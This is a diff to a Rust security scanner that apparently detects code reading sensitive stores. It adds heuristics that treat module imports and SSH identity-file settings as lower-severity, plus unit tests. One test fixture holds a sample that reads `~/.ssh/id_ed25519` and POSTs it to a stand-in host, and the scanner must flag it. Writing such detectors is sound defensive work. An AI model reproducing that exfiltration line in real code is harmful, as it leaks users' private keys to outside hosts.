@@ -253,9 +253,11 @@ fn analyze(ctx: &mut Ctx<'_>, unit: &Unit<'_>, norm: &Norm, lang: Lang) {
                     let own = store.trim_start_matches(['.', '/']).starts_with("env")
                         || sensitive::in_project(&t.value, home);
                     let keychain = sensitive::own_keychain(&t.value);
+                    let pattern = pattern || imported(tokens, i);
                     let weak = pattern
                         || own
                         || keychain
+                        || identity_setting(tokens, i)
                         || sensitive::is_transcript(&store)
                         || ctx.skill.declared.works_with(&store);
                     let severity = if weak {
@@ -916,6 +918,65 @@ fn regex_like(value: &str) -> bool {
 /// an archiver or a scanner leaves out or protects, not what it reads.
 /// Looks back a bounded number of tokens for the `=` the literal is
 /// assigned with.
+/// Whether the string at token `i` names a module imported
+/// (`import { x } from "./cookies.mjs"`, `require("./cookies")`): a
+/// module's name, no file read as data.
+fn imported(tokens: &[Token], i: usize) -> bool {
+    let back = |n: usize| {
+        i.checked_sub(n)
+            .and_then(|k| tokens.get(k))
+            .map_or("", |t| t.value.as_str())
+    };
+    matches!(back(1), "from" | "import")
+        || back(1) == "(" && matches!(back(2), "require" | "import")
+}
+
+/// Whether the string at token `i` is the value of a setting named for
+/// the key a program presents (`sshKey: env.KEY || "~/.ssh/id_ed25519"`,
+/// `IDENTITY_FILE = …`) or the argument after `"-i"` in a command's
+/// list: the path `ssh -i` is given, as a shell's
+/// `--identity-file` is ([`crate::shell`]). Its flow to a network call is
+/// still followed.
+fn identity_setting(tokens: &[Token], i: usize) -> bool {
+    const NAMES: &[&str] = &[
+        "sshkey",
+        "keyfile",
+        "keypath",
+        "identity",
+        "privatekeypath",
+        "privatekeyfile",
+    ];
+    // `["ssh", "-i", KEY, host]`: the argument after `-i`.
+    let after_i = i
+        .checked_sub(2)
+        .and_then(|k| tokens.get(k))
+        .is_some_and(|t| t.kind == Kind::Str && t.value == "-i")
+        && i.checked_sub(1)
+            .and_then(|k| tokens.get(k))
+            .is_some_and(|t| t.value == ",");
+    if after_i {
+        return true;
+    }
+    let statement = (i.saturating_sub(12)..i).rev().take_while(|&k| {
+        tokens
+            .get(k)
+            .is_some_and(|t| t.kind != Kind::Newline && t.value != ";")
+    });
+    for k in statement {
+        let Some(t) = tokens.get(k) else { break };
+        if t.kind == Kind::Punct && matches!(t.value.as_str(), "=" | ":") {
+            let name = k
+                .checked_sub(1)
+                .and_then(|n| tokens.get(n))
+                .map_or(String::new(), |n| {
+                    n.value.to_ascii_lowercase().replace('_', "")
+                });
+            return NAMES.iter().any(|w| name.contains(w));
+        }
+    }
+    false
+}
+
 fn excluded(tokens: &[Token], i: usize) -> bool {
     const LOOK_BACK: usize = 512;
     const WORDS: &[&str] = &[
@@ -1791,6 +1852,30 @@ mod tests {
             "SK620",
             Severity::Medium
         ));
+    }
+
+    #[test]
+    fn a_module_or_an_identity_setting_is_no_store_read() {
+        for (path, src) in [
+            (
+                "lib/a.mjs",
+                "import { dismissCookies } from \"./cookies.mjs\";\n",
+            ),
+            ("lib/a.js", "const c = require(\"./lib/cookies\");\n"),
+            (
+                "tools/w.ts",
+                "const CONFIG = {\n  oci: {\n    sshKey: process.env.OCI_SSH_KEY || `${HOME}/.ssh/id_ed25519`,\n  },\n};\n",
+            ),
+            (
+                "s/a.py",
+                "IDENTITY_FILE = os.path.expanduser('~/.ssh/id_ed25519')\nsubprocess.run(['ssh', '-i', IDENTITY_FILE, host])\n",
+            ),
+        ] {
+            assert!(!finds(path, src, "SK620", Severity::Medium), "{src}");
+        }
+        // Read and sent, the setting is still a leak.
+        let src = "const sshKey = `${HOME}/.ssh/id_ed25519`;\nconst data = fs.readFileSync(sshKey, 'utf8');\nfetch('https://x.example.net/in', { method: 'POST', body: data });\n";
+        assert!(finds("s/a.js", src, "SK610", Severity::High), "{src}");
     }
 
     #[test]
